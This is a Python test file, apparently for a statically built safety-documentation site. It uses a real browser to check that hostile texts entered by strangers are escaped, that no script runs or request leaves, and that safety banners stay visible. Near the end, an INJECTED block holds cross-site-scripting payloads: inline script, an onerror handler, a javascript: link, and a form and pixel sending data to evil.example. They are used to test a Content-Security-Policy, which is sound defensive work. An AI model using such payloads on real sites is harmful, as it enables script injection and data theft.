"""Texts that strangers may send, in every field of a site, in a real browser: nothing runs, nothing leaks.

The texts are those of ``tests/hostile/shown.yml``. All of them share one build and one visit to each page.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser, Page, Route

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "hostile"))

import shown

TEXTS = shown.texts()
# The page without its words: tags, classes and names of attributes, in order.
SKELETON = """() => {
  const out = [];
  const walk = (node, depth) => {
    // The theme gives what it cuts short a title, and its sidebars a style some time later.
    const late = ["title", ...(node.matches(".md-sidebar") ? ["style"] : [])];
    const names = [...node.attributes].map((one) => one.name).filter((one) => !late.includes(one)).sort();
    const id = (node.id || "").replace(/[0-9]+/g, "0").replace(/shown-[ab]/, "shown");
    const classes = [...node.classList].sort().join(".");
    out.push(`${" ".repeat(depth)}${node.tagName}.${classes}#${id} ${names.join(" ")}`);
    for (const child of node.children) { walk(child, depth + 1); }
  };
  walk(document.documentElement, 0);
  return out.join("\\n");  // a list of thousands takes long to hand over
}"""
SEEN = """(words) => {
  const out = [];
  for (const [name, selector] of [["status", ".asf-status"], ["banner", ".asf-banner"]]) {
    const found = document.querySelectorAll(selector);
    if (found.length !== 1) { out.push(name + ": " + found.length + " of them"); continue; }
    const one = found[0];
    one.scrollIntoView({block: "center"});
    const box = one.getBoundingClientRect();
    const on = document.elementFromPoint(box.left + box.width / 2, box.top + Math.min(box.height / 2, 40));
    const seen = one.checkVisibility({checkOpacity: true, checkVisibilityCSS: true});
    if (!seen) { out.push(name + " is hidden"); }
    if (box.width < 200 || box.height < 20) { out.push(name + " has no room"); }
    if (!one.contains(on)) { out.push(name + " is covered by " + (on && on.outerHTML.slice(0, 200))); }
  }
  for (const one of document.querySelectorAll("h1, .asf-status, .asf-banner, .asf-hazards")) {
    if (one.getBoundingClientRect().right > window.innerWidth) { out.push(one.className + " is too wide"); }
  }
  return out;
}"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of the site."""
    folder = tmp_path_factory.mktemp("hostile") / "club"
    shown.write(folder)
    ended = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "--quiet"],
        cwd=folder,
        env=os.environ | {"NO_MKDOCS_2_WARNING": "1"},
        capture_output=True,
        text=True,
    )
    assert ended.returncode == 0, ended.stdout + ended.stderr
    return folder / "site"


class Visit:
    """A tab that opens pages from their folder, and what happened in it."""

    def __init__(self, page: Page, site: Path) -> None:
        self.page, self.site, self.trouble = page, site, list[str]()
        page.on("dialog", lambda dialog: (self.trouble.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda _: self.trouble.append("a window opened"))
        page.on("pageerror", lambda error: self.trouble.append(f"error in a script: {error}"))
        page.on("console", lambda said: said.type in ("error", "warning") and self.trouble.append(said.text))
        page.route(re.compile(r"^(?!file:|data:)"), self._asked)

    def _asked(self, route: Route) -> None:
        self.trouble.append(f"request: {route.request.url}")
        route.abort()

    def open(self, path: str) -> Page:
        """Opens a page and waits until its scripts have run."""
        address = f"{self.site.as_uri()}/{path}"
        self.page.goto(address)
        if self.page.evaluate("window.hostile !== undefined"):
            self.trouble.append("a text ran as a script")
        if self.page.url != address:
            self.trouble.append(f"led away to {self.page.url}")
        return self.page


@pytest.fixture(scope="module")
def visit(browser: Browser, built: Path) -> Iterator[Visit]:
    context = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
    yield Visit(context.new_page(), built)
    context.close()


def read_of(page: Page) -> str:
    """All that stands on a page, hidden or not, with white space squeezed."""
    return " ".join(page.evaluate("document.body.textContent").split())


def squeezed(text: str) -> str:
    return " ".join(text.split())


def test_pages_of_all_texts_have_the_same_structure_and_are_read_letter_for_letter(visit: Visit) -> None:
    """No script runs, no request leaves, no banner is hidden or forged, nothing written is lost."""
    skeleton = ""
    wrong: list[str] = []
    for one in TEXTS:
        page = visit.open(f"recipes/{one.id}.html")
        said = read_of(page)
        found = page.evaluate(SKELETON)
        skeleton = skeleton or found
        if found != skeleton:
            both = zip(skeleton.split("\n"), found.split("\n"), strict=False)
            odd = next((pair for pair in both if pair[0] != pair[1]), ("", ""))
            wrong.append(f"{one.id} {one.text!r}: {odd[1]!r} in place of {odd[0]!r}")
        # Title, annoyance, a hazard's three in banner and table, and so on: 20 at least.
        if said.count(squeezed(one.text)) < 20:
            wrong.append(f"{one.id} {one.text!r} stands {said.count(squeezed(one.text))} times")
        if squeezed(one.read) not in said:
            wrong.append(f"{one.id} {one.read!r} is not read in prose")
        if page.title() != f"{squeezed(one.text)} - Hostile":
            wrong.append(f"{one.id} is called {page.title()!r}")
        wrong += (f"{one.id} {one.text!r}: {each}" for each in page.evaluate(SEEN))
        wrong += (f"{one.id} {one.text!r}: {each}" for each in visit.trouble)
        visit.trouble.clear()
    assert not wrong, "\n".join(wrong)


FIXED = "This job changes something that keeps people safe: doors, steps and windows."


def test_no_text_weakens_what_is_said_by_rule(visit: Visit, built: Path) -> None:
    """Each author names one negligible hazard; the caution that follows from a safety function outranks it.

    On the page, on the sheet, and in what the planner shows its warnings from.
    """
    for one in TEXTS[:8]:
        page = visit.open(f"recipes/{one.id}.html")
        banner = page.inner_text(".asf-banner")
        assert banner.startswith("WARNING") and FIXED in banner and "could be seriously hurt" in banner
        assert squeezed(one.text) not in squeezed(banner)  # a lower signal word has no place there
        assert FIXED in page.inner_text(".asf-hazards")
    visit.trouble.clear()
    for one in TEXTS:
        sheet = (built / f"sheets/{one.id}.html").read_text("utf-8")
        assert sheet.index("panel--warning") < sheet.index(FIXED) < sheet.index("panel--notice")
        planned = (built / f"assets/asfound/data/sheets/{one.id}.js").read_text("utf-8")
        assert FIXED in planned and "seriously hurt" in planned


def test_lists_and_other_pages_show_all_texts(visit: Visit) -> None:
    places = {
        "find.html": [one.text for one in TEXTS],
        "modules/shown-a.html": [one.text for one in TEXTS[0::2]],
        "modules/shown-b.html": [one.text for one in TEXTS[1::2]],
        "vehicles/dory.html": [one.text for one in TEXTS],
        "board.html": [one.text for one in TEXTS],
        "index.html": [TEXTS[1].text],
        "planner.html": [],
    }
    wrong = []
    for path, expected in places.items():
        said = read_of(visit.open(path))
        wrong += [f"{path}: {text!r}" for text in expected if squeezed(text) not in said]
        wrong += [f"{path}: {each}" for each in visit.trouble]
        visit.trouble.clear()
    assert wrong == []


def test_data_for_programs_holds_the_texts(built: Path) -> None:
    book = json.loads((built / "book.json").read_text("utf-8"))
    said = json.dumps(book, ensure_ascii=False)
    for one in TEXTS:
        assert json.dumps(one.text, ensure_ascii=False) in said
    feed = ElementTree.parse(built / "feed.xml")  # the latest only
    titles = [each.text or "" for each in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert len(titles) > 30
    assert {title.removeprefix("NOT VETTED: ") for title in titles} <= {one.text for one in TEXTS}


INJECTED = """
<script>window.hostile = "inline"</script>
<img src="x" onerror="window.hostile = 'handler'">
<a id="way" href="javascript:window.hostile='address'">way</a>
<form id="form" action="https://evil.example/"><input name="vin" value="secret"></form>
<img src="https://evil.example/pixel.png"><iframe src="https://evil.example/"></iframe>
<style>.asf-banner { display: none }</style><base href="https://evil.example/">
<object data="data:text/html,x"></object>
"""


def _what_happens(browser: Browser, file: Path) -> tuple[str | None, list[str]]:
    """Which script ran, and what was asked of another host; what is blocked never comes so far."""
    page, asked = browser.new_page(), list[str]()

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="x")

    page.route("https://evil.example/**", answer)
    page.goto(file.as_uri())
    ran = page.evaluate("window.hostile")
    page.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(150)
    page.close()
    return ran, asked


@pytest.mark.parametrize("name", ["recipes/shown-00.html", "404.html"])
def test_what_is_injected_is_blocked_by_the_policy(browser: Browser, built: Path, name: str) -> None:
    """The second wall: had our escaping a hole. Without the policy the same page does all of it."""
    html = (built / name).read_text("utf-8")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">', html)
    assert policy and html.index(policy[0]) < html.index("<script")
    assert "unsafe" not in policy[0] and '<meta name="referrer" content="no-referrer">' in html
    html = html.replace("</body>", f"{INJECTED}</body>")
    outcome = {}
    for way, page_html in (("with", html), ("without", html.replace(policy[0], ""))):
        file = (built / name).with_name(f"{way}.html")
        file.write_text(page_html, "utf-8")
        outcome[way] = _what_happens(browser, file)
        file.unlink()
    assert outcome["with"] == (None, [])
    ran, left = outcome["without"]
    assert ran in ("inline", "handler") and len(left) >= 2, "nothing happens without the policy either"
